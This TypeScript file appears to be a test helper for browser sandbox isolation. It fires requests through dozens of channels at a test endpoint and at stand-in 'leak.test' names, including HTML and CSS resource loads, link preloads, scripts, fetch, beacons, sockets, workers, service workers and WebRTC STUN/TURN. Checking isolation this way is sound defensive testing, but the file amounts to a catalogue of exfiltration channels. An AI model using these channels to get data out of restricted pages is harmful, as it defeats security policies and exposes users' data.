// Ways a document can reach a server without leaving itself. Runs inside a view, so it must not refer to anything outside.

/** Tries them all and waits a moment; what threw is of no interest, what arrived is. */
export async function tryEverything(to: string, names: string): Promise<number> {
  const at = (what: string): string => `${to}/v/${what}`;
  const body = document.body;
  let tried = 0;
  const markup = (name: string, html: string): void => {
    tried++;
    const holder = document.createElement('div');
    holder.dataset['vector'] = name;
    body.append(holder);
    holder.innerHTML = html;
  };
  const attempt = (run: () => unknown): void => {
    tried++;
    try {
      const result = run();
      if (result instanceof Promise) result.catch(() => undefined);
    } catch {
      // Refused at once.
    }
  };
  const script = (name: string, change: (it: HTMLScriptElement) => void): void =>
    attempt(() => {
      const it = document.createElement('script');
      change(it);
      it.dataset['vector'] = name;
      document.head.append(it);
    });
  const link = (rel: string, more: Record<string, string> = {}, href = at(`link-${rel}`)): void =>
    attempt(() => {
      const it = document.createElement('link');
      it.rel = rel;
      for (const [key, value] of Object.entries(more)) it.setAttribute(key, value);
      it.href = href;
      document.head.append(it);
    });

  markup('img', `<img src="${at('img')}">`);
  markup('srcset', `<img srcset="${at('srcset')} 1x">`);
  markup('picture', `<picture><source srcset="${at('picture')}"><img></picture>`);
  markup('input', `<input type="image" src="${at('input')}">`);
  markup(
    'background',
    `<table background="${at('table')}"><tr><td background="${at('td')}">x</table>`,
  );
  markup('video', `<video autoplay muted src="${at('video')}" poster="${at('poster')}"></video>`);
  markup('source', `<audio autoplay><source src="${at('source')}"></audio>`);
  markup('track', `<video src="data:video/mp4,"><track default src="${at('track')}"></video>`);
  markup('object', `<object data="${at('object')}"></object>`);
  markup('embed', `<embed src="${at('embed')}">`);
  markup('iframe', `<iframe src="${at('iframe')}"></iframe>`);
  markup('srcdoc', `<iframe srcdoc="<img src='${at('srcdoc')}'>"></iframe>`);
  markup(
    'srcdoc script',
    `<iframe srcdoc="<script>fetch('${at('srcdoc-script')}')</script>"></iframe>`,
  );
  markup('data frame', `<iframe src="data:text/html,<img src='${at('data-frame')}'>"></iframe>`);
  markup('style', `<p style="background:url(${at('style')})">x</p>`);
  markup('cursor', `<p style="cursor:url(${at('cursor')}),auto">x</p>`);
  markup('list', `<ul style="list-style-image:url(${at('list')})"><li>x</ul>`);
  markup('content', `<style>.c::before{content:url(${at('content')})}</style><p class="c">x</p>`);
  markup(
    'border',
    `<p style="border-image:url(${at('border')}) 1;border-width:1px;border-style:solid">x</p>`,
  );
  markup(
    'mask',
    `<p style="mask-image:url(${at('mask')});-webkit-mask-image:url(${at('mask2')})">x</p>`,
  );
  markup('shape', `<p style="float:left;shape-outside:url(${at('shape')})">x</p>`);
  markup('filter', `<p style="filter:url(${at('filter')}#f);clip-path:url(${at('clip')}#c)">x</p>`);
  markup('image-set', `<p style="background:image-set('${at('image-set')}' 1x)">x</p>`);
  markup('import', `<style>@import url("${at('import')}");</style>`);
  markup(
    'font',
    `<style>@font-face{font-family:q;src:url(${at('font')})}</style><p style="font-family:q">x</p>`,
  );
  markup('svg image', `<svg><image href="${at('svg-image')}"/></svg>`);
  markup('svg use', `<svg><use href="${at('svg-use')}#x"/></svg>`);
  markup(
    'svg fe',
    `<svg><filter id="z"><feImage href="${at('svg-fe')}"/></filter><rect width="9" height="9" filter="url(#z)"/></svg>`,
  );
  markup('svg script', `<svg><script href="${at('svg-script')}"></script></svg>`);
  markup('math', `<math href="${at('math')}"><mtext>x</mtext></math>`);
  markup('portal', `<portal src="${at('portal')}"></portal><fencedframe></fencedframe>`);
  markup(
    'csp',
    `<meta http-equiv="content-security-policy" content="img-src 'none'; report-uri ${at('csp')}">`,
  );
  markup('prefetch control', `<meta http-equiv="x-dns-prefetch-control" content="on">`);
  for (const rel of [
    'stylesheet',
    'icon',
    'apple-touch-icon',
    'manifest',
    'prefetch',
    'prerender',
    'modulepreload',
    'next',
    'compression-dictionary',
  ])
    link(rel);
  for (const as of [
    'image',
    'script',
    'style',
    'font',
    'fetch',
    'document',
    'track',
    'audio',
    'video',
  ])
    link('preload', { as, crossorigin: '' }, at(`preload-${as}`));
  link('dns-prefetch', {}, `http://${names}prefetch.leak.test/`);
  link('preconnect', {}, `http://${names}preconnect.leak.test/`);
  link('stylesheet', {}, `http://${names}stylesheet.leak.test/x.css`);
  script('script', (it) => (it.src = at('script')));
  script('module', (it) => {
    it.type = 'module';
    it.src = at('module');
  });
  script('inline', (it) => (it.textContent = `fetch('${at('inline')}')`));
  script('inline module', (it) => {
    it.type = 'module';
    it.textContent = `import '${at('inline-module')}'`;
  });
  script('import map', (it) => {
    it.type = 'importmap';
    it.textContent = JSON.stringify({ imports: { x: at('import-map') } });
  });
  script('rules', (it) => {
    it.type = 'speculationrules';
    it.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [at('speculation')], eagerness: 'immediate' }],
      prerender: [{ source: 'list', urls: [at('prerender-rule')], eagerness: 'immediate' }],
    });
  });
  script('blob', (it) => {
    const text = `fetch('${at('blob-script')}')`;
    it.src = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  });
  attempt(() => import(at('dynamic-import')));
  attempt(() => fetch(at('fetch')));
  attempt(() => fetch(at('post'), { method: 'POST', mode: 'no-cors', body: 'x' }));
  attempt(() => fetch(at('keepalive'), { keepalive: true, mode: 'no-cors' }));
  attempt(() => fetch(`http://${names}fetch.leak.test/`));
  attempt(() =>
    (globalThis as unknown as { fetchLater(u: string, o: object): unknown }).fetchLater(
      at('later'),
      { activateAfter: 0 },
    ),
  );
  attempt(() => {
    const it = new XMLHttpRequest();
    it.open('GET', at('xhr'));
    it.send();
  });
  attempt(() => new WebSocket(at('socket').replace('http', 'ws')));
  attempt(() => new EventSource(at('events')));
  attempt(() => navigator.sendBeacon(at('beacon'), 'x'));
  attempt(() => new Worker(at('worker')));
  attempt(() => new SharedWorker(at('shared-worker')));
  attempt(() => {
    const text = `fetch('${at('blob-worker')}');importScripts('${at('blob-worker-scripts')}')`;
    return new Worker(URL.createObjectURL(new Blob([text])));
  });
  attempt(() =>
    (CSS as unknown as { paintWorklet: Worklet }).paintWorklet.addModule(at('paint-worklet')),
  );
  attempt(() => new AudioContext().audioWorklet.addModule(at('audio-worklet')));
  attempt(() => new FontFace('g', `url(${at('font-face')})`).load());
  attempt(() => (new Image().src = at('image-object')));
  attempt(() => new Audio(at('audio-object')).play());
  attempt(() => document.adoptedStyleSheets.push(Object.assign(new CSSStyleSheet(), {})));
  attempt(() => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body{background-image:url(${at('sheet')})}`);
    document.adoptedStyleSheets = [sheet];
  });
  attempt(() =>
    new PaymentRequest([{ supportedMethods: at('payment') }], {
      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
    }).canMakePayment(),
  );
  attempt(() => navigator.serviceWorker.register(at('service-worker')));
  attempt(() => body.animate([{ backgroundImage: `url(${at('animation')})` }, {}], 9));
  attempt(() => {
    const frame = document.createElement('iframe');
    body.append(frame);
    frame.contentWindow?.location.replace(at('child-location'));
  });
  attempt(() => {
    const parser = new DOMParser().parseFromString(`<img src="${at('parsed')}">`, 'text/html');
    body.append(document.adoptNode(parser.body));
  });
  attempt(() => {
    const context = document.createElement('canvas').getContext('2d');
    const image = new Image();
    image.src = at('canvas');
    context?.drawImage(image, 0, 0);
  });
  await new Promise((resolve) => setTimeout(resolve, 1200));
  return tried;
}

/** What only `Connection-Allowlist` stops: WebRTC over UDP and TCP, and the names it looks up. */
export async function tryPeers(udp: number, tcp: number, names: string): Promise<string> {
  try {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:127.0.0.1:${udp}` },
        { urls: `stun:${names}stun.leak.test:3478` },
        { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'a', credential: 'b' },
      ],
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1500));
    return peer.iceGatheringState;
  } catch (error) {
    return String(error);
  }
}
